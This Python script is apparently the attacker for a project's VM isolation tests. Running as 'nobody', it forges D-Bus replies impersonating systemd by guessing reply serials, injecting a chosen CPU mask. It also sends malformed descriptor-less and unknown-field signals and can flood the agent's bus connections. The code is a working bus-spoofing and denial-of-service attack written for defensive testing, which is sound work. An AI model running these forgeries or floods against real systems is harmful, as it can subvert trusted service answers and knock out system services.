"""Run inside the VM as ``nobody``: answer for systemd on other peers'
connections to the system bus (issue 40, H-1).

    python3 forger.py SOCKET SECONDS MASK_HEX [MODE...]

The attacker of ``tests/functional/isolation/test_forged_replies.py``
(``ATTACKER``), on the VM's real system bus. Unique names are public
(``ListNames``, and the bus's ``NameOwnerChanged`` signal names each new
connection at once) and serials predictable (1, 2, 3... on each
connection; the agent says Hello, then asks LoadUnit and Get three
times, unit after unit). So each client connection (a unique name that
owns no well-known name: not systemd, logind or machined) gets, as soon
as it appears, signals and method returns carrying reply serials 1-79,
each with the body the call of that serial awaits (a unit path for a
LoadUnit, the CPU mask ``MASK_HEX`` for a Get: a guests' CPU), and every
second serials 1-299 and another 300 of a window that moves up to 3,000
(a long-lived connection, ``watch``, has used more). Debian's
python3-jeepney; stdlib otherwise. Prints how many messages it sent when
its time is up or on SIGTERM. That is ``replies``, the default MODE;
several MODEs add up.

With ``fd`` (issue 48, R5-H1) it sends one signal of type ``h``
(a descriptor's index) that carries no descriptor, framed by hand
(jeepney will not make it), to each new connection as it appears and to
every client connection every second: both buses deliver it.

With ``attacks`` (issue 60) it sends, to each new connection as it
appears and to every client connection every second: that ``h`` signal,
and a signal carrying a header field of code 200, which the
specification says to ignore (dbus-broker relays it, dbus-daemon strips
it; jeepney raised on it); and, to the agent's connections alone
(``is_agent``), small signals of 96 bytes, ``FLOOD`` to each new one and
``FLOOD_EACH`` to each every ``FLOOD_EVERY`` rounds, one write each.
(2,000 to every client every second kept the TCG VM's bus and systemd
so busy that systemd answered nobody within ``status``'s 5 s, on either
socket: a load on the host, not on the agent's connection.)
"""

import itertools
import signal
import struct
import sys
import time

import jeepney
from jeepney import DBusAddress
from jeepney import HeaderFields
from jeepney.bus_messages import MatchRule
from jeepney.bus_messages import message_bus
from jeepney.io.blocking import open_dbus_connection
from jeepney.low_level import Endianness
from jeepney.low_level import Header
from jeepney.low_level import MessageType

PATH = '/org/freedesktop/systemd1/unit/system_2eslice'
WINDOW = 300
TOP = 3000
FLOOD = 20000
FLOOD_EACH = 2000
FLOOD_EVERY = 10


def _pad(buf, n):
    return buf + bytes(-len(buf) % n)


def _string(code, sig, text):
    """A header field of ``code`` holding a string (``s``) or an object
    path (``o``), aligned as if at an offset divisible by 8."""
    data = text.encode()
    return _pad(bytes([code, 1]) + sig.encode() + b'\0', 4) + \
        struct.pack('<I', len(data)) + data + b'\0'


def framed(name, extra=b'', signature='', body=b''):
    """A signal to ``name`` framed by hand, with header fields
    ``extra`` (already marshalled, 8-aligned) after the usual ones."""
    fields = b''
    for part in (_string(1, 'o', '/'), _string(2, 's', 'x.F'),
                 _string(3, 's', 'F'),
                 _string(6, 's', name)):
        fields = _pad(fields, 8) + part
    if signature:
        fields = _pad(fields, 8) + bytes([8, 1]) + b'g\0' + bytes(
            [len(signature)]) + signature.encode() + b'\0'
    if extra:
        fields = _pad(fields, 8) + extra
    head = b'l\x04\x00\x01' + struct.pack('<III', len(body), 1, len(fields))
    return _pad(head + fields, 8) + body


def unknown_field(name):
    """A signal carrying a header field of code 200 (a string)."""
    return framed(name, _string(200, 's', 'x'))


def small(name):
    """A signal of 96 bytes (an ``ay`` body filling it out)."""
    n = 96 - len(framed(name, signature='ay')) - 4
    return framed(name, signature='ay', body=struct.pack('<I', n) + bytes(n))


class Forger:

    def __init__(self, sock, mask, fd=False, attacks=False, replies=True):
        self.sock = sock
        self.mask = mask
        self.fd = fd or attacks
        self.attacks = attacks
        self.replies = replies
        self.floods = {}  # name: FLOOD_EACH small signals, framed once
        self.agents = {}  # name: whether it is the agent's (is_agent)
        self.rounds = 0
        self.sent = 0
        self.window = WINDOW
        self.serials = itertools.count(1 << 30)

    def fd_signal(self, conn, name):
        """A signal of type ``h`` to ``name``, with no descriptor."""
        fields = {HeaderFields.path: '/org/example/Forger',
                  HeaderFields.interface: 'org.example.Forger',
                  HeaderFields.member: 'Forged',
                  HeaderFields.destination: name,
                  HeaderFields.signature: 'h'}
        head = Header(Endianness.little, MessageType.signal, 0, 1, 4,
                      next(self.serials), fields).serialise()
        conn.sock.sendall(head + bytes(-len(head) % 8) + bytes(4))
        self.sent += 1

    def body(self, serial):
        if serial == 1:
            return 's', (':1.9999',)  # Hello's answer: a unique name
        if serial % 4 == 2:
            return 'o', (PATH,)
        return 'v', (('ay', self.mask),)

    def is_agent(self, conn, name):
        """Whether ``name`` is a connection of nova-pinning-isolate (or of
        the VM tests' zygote that runs it): what an attacker who wants to
        flood the agent, not the whole host, asks the bus and /proc."""
        if name not in self.agents:
            try:
                pid = conn.send_and_get_reply(
                    message_bus.GetConnectionUnixProcessID(name),
                    timeout=5).body[0]
                if not isinstance(pid, int):
                    # On dbus-broker, with ``replies`` too, the answer
                    # taken was once one of the forged ones (a string).
                    raise ValueError(pid)
                with open('/proc/%d/cmdline' % pid, 'rb') as f:
                    cmdline = f.read()
            except (OSError, ValueError, IndexError, TimeoutError,
                    jeepney.DBusErrorResponse):
                return False  # gone, or not to be known
            if len(self.agents) > 200:
                self.agents.clear()
            self.agents[name] = b'nova-pinning-isolate' in cmdline or \
                b'zygote.py' in cmdline
        return self.agents[name]

    def attack(self, conn, name, first):
        """issue 60: an unknown header field, and small signals."""
        conn.sock.sendall(unknown_field(name))
        self.sent += 1
        # The flood to the agent's connections alone: sent to every new
        # connection, it reached systemd's own on the bus too (before it
        # owns its name), and kept pid 1 from answering anybody in 30 s.
        if not first and self.rounds % FLOOD_EVERY or \
                not self.is_agent(conn, name):
            return
        if name not in self.floods:
            if len(self.floods) > 50:  # names of connections long gone
                self.floods.clear()
            self.floods[name] = small(name) * FLOOD_EACH
        blob = self.floods[name] * (FLOOD // FLOOD_EACH if first else 1)
        conn.sock.sendall(blob)
        self.sent += len(blob) // 96

    def flood(self, conn, name, serials, first=False):
        # The forged answers first: a new connection's first calls are
        # in flight as it appears, and an answer must come during its
        # call to be taken for it.
        if self.replies:
            self.replies_to(conn, name, serials)
        if self.fd:
            self.fd_signal(conn, name)
            if self.attacks:
                self.attack(conn, name, first)

    def replies_to(self, conn, name, serials):
        for serial in serials:
            sig, value = self.body(serial)
            for kind in ('signal', 'return'):
                if kind == 'signal':
                    msg = jeepney.new_signal(DBusAddress(
                        '/org/example/Forger',
                        interface='org.example.Forger'), 'Forged', sig,
                        value)
                else:
                    call = jeepney.new_method_call(DBusAddress(
                        '/', bus_name=name, interface='org.example.X'), 'X')
                    call.header.serial = serial
                    msg = jeepney.new_method_return(call, sig, value)
                msg.header.fields[HeaderFields.destination] = name
                msg.header.fields[HeaderFields.reply_serial] = serial
                conn.send(msg)
                self.sent += 1

    def clients(self, conn):
        """Unique names that own no well-known name, but ours."""
        names = conn.send_and_get_reply(message_bus.ListNames(),
                                        timeout=5).body[0]
        owners = set()
        for name in names:
            if not name.startswith(':'):
                try:
                    owners.add(conn.send_and_get_reply(
                        message_bus.GetNameOwner(name), timeout=5).body[0])
                except (jeepney.DBusErrorResponse, ValueError, IndexError):
                    pass  # it went away
        return [n for n in names if n.startswith(':') and
                n not in owners and n != conn.unique_name]

    def round(self, conn):
        self.rounds += 1
        serials = list(range(1, WINDOW)) + list(range(
            self.window, self.window + WINDOW))
        self.window = self.window + WINDOW if \
            self.window + WINDOW < TOP else WINDOW
        for name in self.clients(conn):
            self.flood(conn, name, serials)

    def run(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                conn = open_dbus_connection('unix:path=' + self.sock,
                                            auth_timeout=10)
                conn.send_and_get_reply(message_bus.AddMatch(MatchRule(
                    type='signal', sender='org.freedesktop.DBus',
                    interface='org.freedesktop.DBus',
                    member='NameOwnerChanged')), timeout=10)
                again = 0.0
                while time.monotonic() < end:
                    if time.monotonic() >= again:
                        self.round(conn)
                        again = time.monotonic() + 1.0
                    try:
                        msg = conn.receive(timeout=0.05)
                    except TimeoutError:
                        continue
                    if msg.header.fields.get(HeaderFields.member) == \
                            'NameOwnerChanged':
                        name, old, new = msg.body
                        if name == new and not old and \
                                name != conn.unique_name:
                            self.flood(conn, name, range(1, 80), True)
            except (OSError, ValueError, TimeoutError,
                    jeepney.DBusErrorResponse):
                time.sleep(0.05)  # dropped by the bus: connect again


def main(argv):
    sock, seconds, mask = argv[0], float(argv[1]), bytes.fromhex(argv[2])
    modes = set(argv[3:]) or {'replies'}
    if not modes <= {'fd', 'attacks', 'replies'}:
        sys.exit('modes: fd, attacks, replies, not %s' % ' '.join(modes))
    forger = Forger(sock, mask, fd='fd' in modes,
                    attacks='attacks' in modes, replies='replies' in modes)

    def done(*_args):
        print('sent %d' % forger.sent, flush=True)
        sys.exit(0)
    signal.signal(signal.SIGTERM, done)
    forger.run(seconds)
    done()


if __name__ == '__main__':
    main(sys.argv[1:])
